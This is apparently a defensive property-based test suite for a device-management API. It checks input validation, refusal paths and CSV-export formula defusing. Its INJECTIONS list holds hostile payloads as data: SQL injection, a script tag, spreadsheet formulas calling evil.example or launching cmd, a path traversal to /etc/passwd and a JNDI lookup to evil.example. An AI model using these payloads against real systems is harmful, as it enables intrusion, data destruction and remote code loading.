  'POST /api/v1/webhooks': () => ({
    url: '/api/v1/webhooks',
    body: {
      url: 'https://hooks.example/in',
      description: 'ERP',
      events: ['bulk_change.completed'],
      active: true,
    },
  }),
  'POST /api/v1/bulk-changes/{id}/undo': () => ({
    url: `/api/v1/bulk-changes/${bulkChange}/undo`,
    body: { dryRun: true },
  }),
  'PATCH /api/v1/webhooks/{id}': () => ({
    url: `/api/v1/webhooks/${ids.webhook}`,
    body: {
      url: 'https://hooks.example/in',
      description: 'ERP',
      events: ['bulk_change.completed'],
      active: true,
    },
  }),
};

/** A valid value of each path parameter, by the document's path. */
const PATH_IDS: Record<string, () => number> = {
  '/api/v1/bulk-changes/{id}': () => bulkChange,
  '/api/v1/devices/{id}': () => ids.device,
  '/api/v1/customers/{id}': () => w.fleet.amopCustomer.id,
  '/api/v1/auth/tokens/{id}': () => ids.token,
  '/api/v1/users/{id}': () => ids.user,
  '/api/v1/integrations/{id}': () => ids.integration,
  '/api/v1/service-providers/{id}': () => w.fleet.thingspace,
  '/api/v1/webhooks/{id}': () => ids.webhook,
  '/api/v1/sync-runs/{id}': () => ids.syncRun,
};
const TOKEN = 't'.repeat(43);
/** Query parameters a route requires, valid. */
const REQUIRED_QUERY: Record<string, string> = { kind: 'customer' };

type JsonType = 'null' | 'boolean' | 'integer' | 'number' | 'string' | 'array' | 'object';
const jsonTypeOf = (v: unknown): JsonType =>
  v === null
    ? 'null'
    : Array.isArray(v)
      ? 'array'
      : typeof v === 'number'
        ? Number.isInteger(v)
          ? 'integer'
          : 'number'
        : (typeof v as JsonType);

/** The JSON types a schema admits, and, when its strings are an enumeration, which. */
function admitted(schema: Schema): { types: Set<string>; strings: Set<unknown> | 'any' } {
  const types = new Set<string>();
  let strings: Set<unknown> | 'any' = new Set();
  for (const member of [...(schema.anyOf ?? []), ...(schema.oneOf ?? [])]) {
    const inner = admitted(member);
    inner.types.forEach((t) => types.add(t));
    if (inner.strings === 'any' || strings === 'any') strings = 'any';
    else inner.strings.forEach((v) => (strings as Set<unknown>).add(v));
  }
  const fixed = schema.const !== undefined ? [schema.const] : schema.enum;
  // OpenAPI 3.0 says a union with null this way.
  if (schema.nullable === true) types.add('null');
  for (const t of [schema.type ?? []].flat()) types.add(t);
  for (const v of fixed ?? []) types.add(jsonTypeOf(v));
  if (types.has('string') && strings !== 'any') {
    if (fixed) fixed.forEach((v) => (strings as Set<unknown>).add(v));
    else if (schema.type === 'string' || [schema.type].flat().includes('string')) strings = 'any';
  }
  return { types, strings };
}

const admits = (types: Set<string>, v: unknown) =>
  types.has(jsonTypeOf(v)) || (jsonTypeOf(v) === 'integer' && types.has('number'));

/**
 * A JSON value the field's schema refuses by its type (or, for an enumeration, a string outside
 * it): never valid, whatever the other fields. No `__proto__`/`constructor` keys: the JSON parser
 * refuses those before any field is looked at (a case of the table above).
 */
function wrongFor(schema: Schema): fc.Arbitrary<unknown> | undefined {
  const { types, strings } = admitted(schema);
  if (types.size === 0) return undefined;
  const wrongType = fc
    .jsonValue({ maxDepth: 2 })
    .filter((v) => !admits(types, v) && !/"(__proto__|constructor)"/.test(JSON.stringify(v)));
  if (strings === 'any' || strings.size === 0) return wrongType;
  return fc.oneof(
    wrongType,
    fc.string({ maxLength: 20 }).filter((s) => !strings.has(s)),
  );
}

const operations = () =>
  Object.entries(doc.paths).flatMap(([path, byMethod]) =>
    Object.entries(byMethod).map(([method, op]) => ({
      key: `${method.toUpperCase()} ${path}`,
      path,
      method,
      op,
    })),
  );
const bodySchemaOf = (op: Operation) => op.requestBody?.content['application/json']?.schema;
const writeRoutes = () =>
  operations().filter((o) => Object.keys(bodySchemaOf(o.op)?.properties ?? {}).length > 0);

describe('property: any wrong-typed value in any top-level field is refused, naming that field', () => {
  it('every documented write route with a JSON body has a valid base request here', () => {
    expect(
      writeRoutes()
        .map((o) => o.key)
        .filter((key) => !(key in BASES)),
    ).toEqual([]);
    expect(writeRoutes().length).toBeGreaterThanOrEqual(18);
  });

  it.each(Object.keys(BASES))('%s', async (key) => {
    const route = writeRoutes().find((o) => o.key === key);
    expect(route, `${key} is not in the OpenAPI document`).toBeDefined();
    const fields = Object.entries(bodySchemaOf(route!.op)!.properties!).flatMap(([field, schema]) => {
      const wrong = wrongFor(schema);
      return wrong ? [fc.tuple(fc.constant(field), wrong)] : [];
    });
    const base = BASES[key]!();
    await fc.assert(
      fc.asyncProperty(fc.oneof(...fields), async ([field, value]) => {
        const before = await snapshotAll(w);
        const res = await w.app.inject({
          ...post(base.url, JSON.stringify({ ...base.body, [field]: value }), base.headers ?? w.admin),
          method: route!.method.toUpperCase() as 'POST',
        });
        expectRefusal(res, { status: 400, path: `/${field}` });
        expect(await snapshotAll(w)).toEqual(before);
      }),
      { numRuns: 40 },
    );
  });
});

const INJECTIONS = [
  "' OR '1'='1",
  '1; DROP TABLE device;--',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3',
  '@SUM(1+1)',
  '"quoted, with a comma"',
  'line\r\nbreak',
  'a\u0000b',
  '\u202Eevil',
  '%00',
  '../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
];
/** What a hostile client puts where an ICCID goes. */
const hostileIdentifier = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.constantFrom(...INJECTIONS),
  fc
    .tuple(fc.constantFrom('=', '@', '+', '-', '\t', '\r', '\n'), fc.string({ maxLength: 20 }))
    .map(([lead, rest]) => `${lead}${rest}`),
  fc.stringMatching(/^\d{19,20}$/),
);

/** RFC 4180: rows of cells, quotes undone. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else {
      cell += c;
    }
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** OWASP CSV injection: no cell may start with what a spreadsheet reads as a formula. */
async function expectDefusedExport(id: number, sent: string[]) {
  const res = await w.app.inject({
    method: 'GET',
    url: `${BULK}/${id}/devices`,
    headers: { ...w.admin, accept: 'text/csv' },
  });
  expect(res.statusCode).toBe(200);
  const [header, ...rows] = parseCsv(res.body);
  expect(header).toHaveLength(9);
  for (const row of rows) {
    expect(row).toHaveLength(header!.length);
    for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
  }
  // Quoting round-trips: each identifier comes back once, defused with a leading ' if need be.
  const identifiers = rows.map((r) => r[header!.indexOf('identifier')]!.replace(/^'(?=[=+\-@\t\r])/, ''));
  expect(identifiers.sort()).toEqual(normaliseIdentifiers(sent).unique.sort());
}

describe('property: hostile device identifiers never answer 5xx, and no export cell is a formula', () => {
  it('POST /api/v1/bulk-changes', async () => {
    let accepted = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(hostileIdentifier, { minLength: 1, maxLength: 6 }), async (devices) => {
        const before = await snapshotAll(w);
        const res = await postAssignment(w.app, w.admin, { ...submission(w), devices });
        expect(res.statusCode, res.body).toBeLessThan(500);
        if (res.statusCode === 202) {
          accepted += 1;
          await expectDefusedExport(res.json<{ id: number }>().id, devices);
        } else {
          expectRefusal(res, { status: res.statusCode });
          const paths = res.json<{ error: { details?: { path: string }[] } }>().error.details ?? [];
          expect(paths.map((d) => d.path)).toEqual(
            expect.arrayContaining([expect.stringMatching(/^\/devices(\/\d+)?$/)]),
          );
          expect(await snapshotAll(w)).toEqual(before);
        }
      }),
      { numRuns: 40 },
    );
    console.log(
      `hostile identifiers: ${accepted} of 40 submissions accepted (all devices ineligible), exported`,
    );
    expect(accepted).toBeGreaterThan(0);
  });

  it('POST /M2M/AssociateAmopCustomer', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostileIdentifier, { minLength: 1, maxLength: 4 }), async (devices) => {
        const res = await w.app.inject(
          api('POST', '/M2M/AssociateAmopCustomer', {
            Devices: devices,
            ServiceProviderId: w.fleet.thingspace,
            SiteId: w.fleet.amopCustomer.defaultSiteId,
          }),
        );
        expect(res.statusCode, res.body).toBeLessThan(500);
        if (res.statusCode === 200)
          await expectDefusedExport(res.json<{ ChangeId: number }>().ChangeId, devices);
        else expect(res.json<{ Message: string }>().Message).toMatch(/Devices/);
      }),
      { numRuns: 20 },
    );
  });
});

/** Digits the way Ajv coerces a query string or path parameter into an integer in range. */
const coercesToInteger = (s: string, min: number, max: number) =>
  s.trim() !== '' &&
  Number(s) === Number(s.trim()) &&
  Number.isInteger(Number(s)) &&
  Number(s) >= min &&
  Number(s) <= max;

function wrongInteger(schema: Schema, inPath: boolean): fc.Arbitrary<string> {
  const min = schema.minimum ?? -Infinity;
  const max = schema.maximum ?? Infinity;
  return fc
    .oneof(
      fc.integer({ min: -1_000_000, max: Number.isFinite(min) ? min - 1 : -1 }).map(String),
      fc.bigInt({ min: BigInt(Number.isFinite(max) ? max : 2 ** 53) + 1n, max: 2n ** 80n }).map(String),
      fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
      fc.stringMatching(/^[a-z][a-z0-9_.-]{0,12}$/),
      fc.constantFrom(
        '1e400',
        '-1e400',
        'Infinity',
        '-Infinity',
        'NaN',
        '1.5',
        '--1',
        '1_000',
        ...(inPath ? [] : ['']),
      ),
    )
    .filter((s) => !coercesToInteger(s, min, max));
}

/** Cursors this API never issued: not base64url JSON of `{ id }` with a whole id ≥ 1. */
const wrongCursor = fc.oneof(
  fc
    .jsonValue({ maxDepth: 2 })
    .filter((v) => !isIdCursor(v))
    .map((v) => Buffer.from(JSON.stringify(v)).toString('base64url')),
  fc
    .constantFrom(
      '{"id":-1}',
      '{"id":0}',
      '{"id":1.5}',
      '{"id":9223372036854775808}',
      '{"id":"1"}',
      '{"id":1e400}',
      '{}',
      'null',
      '[1]',
    )
    .map((json) => Buffer.from(json).toString('base64url')),
  fc.stringMatching(/^[A-Za-z0-9_-]{1,40}$/),
  fc.string({ minLength: 1, maxLength: 20 }).map((s) => `${s}!`),
  fc.constant('A'.repeat(501)),
);

function wrongParameter(name: string, schema: Schema, inPath: boolean): fc.Arbitrary<string> | undefined {
  if (name === 'cursor') return wrongCursor;
  if (schema.type === 'integer') return wrongInteger(schema, inPath);
  if (schema.type === 'boolean')
    return fc.string({ maxLength: 8 }).filter((s) => s !== 'true' && s !== 'false');
  const { strings } = admitted(schema);
  if (strings !== 'any' && strings.size > 0)
    return fc.string({ maxLength: 12 }).filter((s) => !strings.has(s));
  if (schema.type !== 'string') return undefined;
  const pattern = schema.pattern
    ? new RegExp(schema.pattern, 'u')
    : schema.format === 'date-time'
      ? /^\d{4}-\d\d-\d\d[Tt ]\d\d:\d\d:\d\d(\.\d+)?([Zz]|[+-]\d\d:?\d\d)$/u
      : undefined;
  const fits = (s: string) =>
    (pattern?.test(s) ?? true) &&
    s.length >= (schema.minLength ?? 0) &&
    s.length <= (schema.maxLength ?? Infinity);
  return (
    fc
      .oneof(
        fc.string({ maxLength: 25 }),
        fc.string({ maxLength: 10 }).map((s) => `${s}\u0000`),
        fc.constant('x'.repeat((schema.maxLength ?? 1000) + 1)),
      )
      // In a path, '' and over 100 characters (Fastify's maxParamLength) match no route at all: 404.
      .filter((s) => !fits(s) && !(inPath && (s === '' || s.length > 100)))
  );
}

describe('property: malformed ids, cursors and filters in paths and query strings answer 400 naming them', () => {
  const withParameters = () =>
    operations().filter((o) => (o.op.parameters ?? []).some((p) => p.in === 'path' || p.in === 'query'));

  it('covers every documented route with a path or query parameter', () => {
    const uncovered = withParameters()
      .flatMap((o) =>
        (o.op.parameters ?? []).filter((p) => p.in === 'path' || p.in === 'query').map((p) => ({ o, p })),
      )
      .filter(({ p }) => !wrongParameter(p.name, p.schema, p.in === 'path'))
      .map(({ o, p }) => `${o.key} ${p.name}`);
    expect(uncovered).toEqual([]);
    expect(withParameters().length).toBeGreaterThanOrEqual(20);
  });

  it('every route, every parameter', async () => {
    let checked = 0;
    /** Each route's first counterexample, so that one defect does not hide the others. */
    const failures: string[] = [];
    for (const { key, path, method, op } of withParameters()) {
      const parameters = (op.parameters ?? []).filter((p) => p.in === 'path' || p.in === 'query');
      const valid = (name: string) => {
        if (name === 'token') return TOKEN;
        const prefix = Object.keys(PATH_IDS).find((p) => path.startsWith(p));
        expect(prefix, `${key}: no valid id for {${name}}`).toBeDefined();
        return String(PATH_IDS[prefix!]!());
      };
      const base = BASES[key]?.();
      await fc
        .assert(
          fc.asyncProperty(
            fc.oneof(
              ...parameters.map((p) =>
                fc.tuple(fc.constant(p), wrongParameter(p.name, p.schema, p.in === 'path')!),
              ),
            ),
            async ([parameter, value]) => {
              let url = path;
              for (const p of parameters.filter((x) => x.in === 'path')) {
                url = url.replace(`{${p.name}}`, encodeURIComponent(p === parameter ? value : valid(p.name)));
              }
              const query = parameters
                .filter((p) => p.in === 'query' && (p === parameter || p.required))
                .map(
                  (p) => `${p.name}=${encodeURIComponent(p === parameter ? value : REQUIRED_QUERY[p.name]!)}`,
                );
              const before = method === 'get' ? undefined : await snapshotAll(w);
              const res = await w.app.inject({
                method: method.toUpperCase() as 'GET',
                url: query.length > 0 ? `${url}?${query.join('&')}` : url,
                headers: key.includes('/auth/tokens') && method === 'post' ? w.session : w.admin,
                ...(base?.body ? { payload: base.body } : {}),
              });
              expectRefusal(res, {
                status: 400,
                path: `/${parameter.name}`,
                ...(parameter.name === 'cursor'
                  ? {}
                  : { in: parameter.in === 'path' ? 'params' : 'querystring' }),
              });
              if (before) expect(await snapshotAll(w)).toEqual(before);
            },
          ),
          { numRuns: 30 },
        )
        .catch((error: unknown) => {
          const message = error instanceof Error ? error.message : String(error);
          const cause = (error as { cause?: unknown }).cause;
          const answer =
            cause instanceof Error ? /expected (\d+) to be \d+/.exec(cause.message)?.[1] : undefined;
          const example = /Counterexample: \[\[\{.*"name":"(\w+)".*\},(".*")\]\]/.exec(message);
          failures.push(
            example
              ? `${key} ${example[1]}=${example[2]} → ${answer ?? String(cause)}`
              : `${key}: ${message.slice(0, 300)}`,
          );
        });
      checked += 1;
    }
    console.log(`malformed parameters: ${checked} routes, 30 runs each, ${failures.length} failing`);
    expect(failures).toEqual([]);
    // 39 routes × 30 requests, a snapshot of every table around each write: 4 s alone, over 30 s once
    // inside the full suite while CI's other lanes shared the 2 cores.
  }, 180_000);
});
